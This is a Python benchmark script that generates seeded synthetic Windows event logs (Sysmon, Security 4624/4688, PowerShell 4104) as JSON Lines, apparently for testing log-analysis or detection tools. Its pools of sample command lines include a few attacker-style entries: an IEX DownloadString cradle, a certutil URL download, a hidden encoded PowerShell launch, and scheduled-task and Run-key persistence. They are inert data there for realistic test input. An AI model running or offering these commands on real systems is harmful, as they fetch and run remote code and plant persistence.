#!/usr/bin/env python3
"""Writes N synthetic but realistic Windows events as JSON Lines (EVTX-to-JSON shape) to stdout.

Mix: Sysmon 1 (process creation), 3 (network), 11 (file create), 13 (registry set), Security 4624
(logon) and 4688 (process creation), PowerShell 4104 (script block). Values come from small pools of
ordinary admin and user activity with a few suspicious command lines, seeded, so the stream is the
same on every run. Usage: bench/gen_events.py N [SEED] > events.jsonl
"""
import json
import random
import sys

SYSMON = ("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational")
SECURITY = ("Microsoft-Windows-Security-Auditing", "Security")
POWERSHELL = ("Microsoft-Windows-PowerShell", "Microsoft-Windows-PowerShell/Operational")

IMAGES = [
    r"C:\Windows\System32\svchost.exe", r"C:\Windows\System32\cmd.exe",
    r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", r"C:\Windows\explorer.exe",
    r"C:\Program Files\Google\Chrome\Application\chrome.exe", r"C:\Windows\System32\conhost.exe",
    r"C:\Windows\System32\rundll32.exe", r"C:\Windows\System32\schtasks.exe",
    r"C:\Windows\System32\reg.exe", r"C:\Windows\System32\net.exe", r"C:\Windows\System32\whoami.exe",
    r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", r"C:\Windows\System32\msiexec.exe",
    r"C:\Users\alice\AppData\Local\Temp\setup.exe", r"C:\Windows\System32\certutil.exe",
]
COMMANDS = {
    "svchost.exe": ["C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
                    "C:\\Windows\\System32\\svchost.exe -k LocalServiceNetworkRestricted -p"],
    "cmd.exe": ["cmd.exe /c dir C:\\Users\\alice\\Documents", "cmd.exe /c echo hello > out.txt",
                "cmd.exe /c dir /s /b C:\\Users", "cmd.exe /c copy a.txt b.txt"],
    "powershell.exe": ["powershell.exe -NoProfile -Command Get-ChildItem",
                       "powershell.exe -ExecutionPolicy Bypass -File C:\\scripts\\backup.ps1",
                       "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"],
    "explorer.exe": ["C:\\Windows\\Explorer.EXE"],
    "chrome.exe": ["\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer"],
    "conhost.exe": ["\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"],
    "rundll32.exe": ["rundll32.exe shell32.dll,Control_RunDLL", "rundll32.exe C:\\Users\\Public\\x.dll,Start"],
    "schtasks.exe": ["schtasks /create /tn Updater /tr C:\\Users\\Public\\u.exe /sc minute",
                     "schtasks /query /fo LIST"],
    "reg.exe": ["reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
                "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d C:\\x.exe"],
    "net.exe": ["net user", "net group \"Domain Admins\" /domain", "net use Z: \\\\fs01\\share"],
    "whoami.exe": ["whoami", "whoami /all"],
    "WINWORD.EXE": ["\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n report.docx"],
    "msiexec.exe": ["msiexec.exe /i package.msi /qn"],
    "setup.exe": ["C:\\Users\\alice\\AppData\\Local\\Temp\\setup.exe /S"],
    "certutil.exe": ["certutil -urlcache -split -f http://example.test/a.txt a.txt", "certutil -hashfile a.txt SHA256"],
}
USERS = ["CORP\\alice", "CORP\\bob", "NT AUTHORITY\\SYSTEM", "CORP\\svc_backup"]
FILES = [r"C:\Users\alice\Documents\report.docx", r"C:\Users\alice\AppData\Local\Temp\tmp1234.tmp",
         r"C:\Windows\Temp\install.log", r"C:\Users\Public\x.dll", r"C:\ProgramData\app\cache.bin"]
KEYS = [r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Updater",
        r"HKU\S-1-5-21-1\Software\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs\x",
        r"HKLM\System\CurrentControlSet\Services\svc\Start"]
SCRIPTS = ["Get-Process | Sort-Object CPU", "Invoke-WebRequest -Uri http://example.test/a -OutFile a",
           "Get-ChildItem -Recurse C:\\Users", "IEX (New-Object Net.WebClient).DownloadString('http://x')"]


def base(rng, n, provider, channel, eid):
    return {"Event": {"System": {
        "Provider": {"#attributes": {"Name": provider[0] if isinstance(provider, tuple) else provider}},
        "EventID": eid, "Version": 5, "Level": 4, "Task": eid, "Opcode": 0,
        "Keywords": "0x8000000000000000",
        "TimeCreated": {"#attributes": {"SystemTime": "2025-03-01T10:%02d:%02d.%06dZ" % (n // 60 % 60, n % 60, n % 999999)}},
        "EventRecordID": n, "Channel": channel, "Computer": "ws%02d.corp.example.test" % rng.randrange(40),
        "Execution": {"#attributes": {"ProcessID": 3000 + rng.randrange(500), "ThreadID": 4000 + rng.randrange(500)}},
        "Security": {"#attributes": {"UserID": "S-1-5-18"}}}, "EventData": {}}}


def proc(rng):
    image = rng.choice(IMAGES)
    name = image.rsplit("\\", 1)[1]
    parent = rng.choice(IMAGES)
    return image, rng.choice(COMMANDS[name]), parent, rng.choice(COMMANDS[parent.rsplit("\\", 1)[1]])


def event(rng, n):
    kind = rng.choices(["s1", "s3", "s11", "s13", "4624", "4688", "4104"], [25, 15, 15, 15, 10, 10, 10])[0]
    if kind == "s1":
        e = base(rng, n, SYSMON, SYSMON[1], 1)
        image, cmd, parent, pcmd = proc(rng)
        e["Event"]["EventData"] = {
            "RuleName": "-", "UtcTime": "2025-03-01 10:00:00.000", "ProcessGuid": "{%08X-0000-0000-0000-000000000000}" % n,
            "ProcessId": rng.randrange(10000), "Image": image, "FileVersion": "10.0.19041.1",
            "Description": "Windows program", "Product": "Microsoft Windows Operating System",
            "Company": "Microsoft Corporation", "OriginalFileName": image.rsplit("\\", 1)[1],
            "CommandLine": cmd, "CurrentDirectory": "C:\\Windows\\system32\\", "User": rng.choice(USERS),
            "LogonGuid": "{00000000-0000-0000-0000-000000000000}", "LogonId": "0x3e7", "TerminalSessionId": 1,
            "IntegrityLevel": rng.choice(["Medium", "High", "System"]),
            "Hashes": "SHA256=%064X" % rng.getrandbits(256), "ParentProcessGuid": "{00000000-0000-0000-0000-000000000001}",
            "ParentProcessId": rng.randrange(10000), "ParentImage": parent, "ParentCommandLine": pcmd,
            "ParentUser": rng.choice(USERS)}
    elif kind == "s3":
        e = base(rng, n, SYSMON, SYSMON[1], 3)
        e["Event"]["EventData"] = {
            "RuleName": "-", "UtcTime": "2025-03-01 10:00:00.000", "ProcessId": rng.randrange(10000),
            "Image": rng.choice(IMAGES), "User": rng.choice(USERS), "Protocol": "tcp", "Initiated": "true",
            "SourceIsIpv6": "false", "SourceIp": "10.0.0.%d" % rng.randrange(255), "SourcePort": rng.randrange(49152, 65535),
            "DestinationIsIpv6": "false", "DestinationIp": rng.choice(["93.184.216.34", "10.0.0.5", "140.82.112.3"]),
            "DestinationHostname": rng.choice(["example.test", "fs01.corp.example.test", "github.com"]),
            "DestinationPort": rng.choice([443, 80, 445, 3389, 4444])}
    elif kind == "s11":
        e = base(rng, n, SYSMON, SYSMON[1], 11)
        e["Event"]["EventData"] = {
            "RuleName": "-", "UtcTime": "2025-03-01 10:00:00.000", "ProcessId": rng.randrange(10000),
            "Image": rng.choice(IMAGES), "TargetFilename": rng.choice(FILES),
            "CreationUtcTime": "2025-03-01 10:00:00.000", "User": rng.choice(USERS)}
    elif kind == "s13":
        e = base(rng, n, SYSMON, SYSMON[1], 13)
        e["Event"]["EventData"] = {
            "RuleName": "-", "EventType": "SetValue", "UtcTime": "2025-03-01 10:00:00.000",
            "ProcessId": rng.randrange(10000), "Image": rng.choice(IMAGES), "TargetObject": rng.choice(KEYS),
            "Details": rng.choice(["DWORD (0x00000002)", "C:\\Users\\Public\\u.exe", "Binary Data"]),
            "User": rng.choice(USERS)}
    elif kind == "4624":
        e = base(rng, n, SECURITY, SECURITY[1], 4624)
        e["Event"]["EventData"] = {
            "SubjectUserSid": "S-1-5-18", "SubjectUserName": "WS01$", "SubjectDomainName": "CORP",
            "SubjectLogonId": "0x3e7", "TargetUserSid": "S-1-5-21-1-1104", "TargetUserName": rng.choice(["alice", "bob", "svc_backup"]),
            "TargetDomainName": "CORP", "TargetLogonId": "0x%x" % rng.getrandbits(24),
            "LogonType": rng.choice([2, 3, 5, 10]), "LogonProcessName": "NtLmSsp ", "AuthenticationPackageName": rng.choice(["NTLM", "Kerberos"]),
            "WorkstationName": "WS%02d" % rng.randrange(40), "IpAddress": "10.0.0.%d" % rng.randrange(255),
            "IpPort": rng.randrange(49152, 65535), "ProcessName": "C:\\Windows\\System32\\lsass.exe"}
    elif kind == "4688":
        e = base(rng, n, SECURITY, SECURITY[1], 4688)
        image, cmd, parent, _ = proc(rng)
        e["Event"]["EventData"] = {
            "SubjectUserSid": "S-1-5-21-1-1104", "SubjectUserName": "alice", "SubjectDomainName": "CORP",
            "SubjectLogonId": "0x%x" % rng.getrandbits(24), "NewProcessId": "0x%x" % rng.randrange(65535),
            "NewProcessName": image, "TokenElevationType": "%%1938", "ProcessId": "0x%x" % rng.randrange(65535),
            "CommandLine": cmd, "TargetUserSid": "S-1-0-0", "ParentProcessName": parent,
            "MandatoryLabel": "S-1-16-8192"}
    else:
        e = base(rng, n, POWERSHELL, POWERSHELL[1], 4104)
        e["Event"]["EventData"] = {
            "MessageNumber": 1, "MessageTotal": 1, "ScriptBlockText": rng.choice(SCRIPTS),
            "ScriptBlockId": "%08x-0000-0000-0000-000000000000" % n, "Path": ""}
    return e


def main():
    n = int(sys.argv[1]) if len(sys.argv) > 1 else 100000
    rng = random.Random(int(sys.argv[2]) if len(sys.argv) > 2 else 7)
    out = sys.stdout
    for i in range(n):
        out.write(json.dumps(event(rng, i + 1), separators=(",", ":")))
        out.write("\n")


if __name__ == "__main__":
    main()
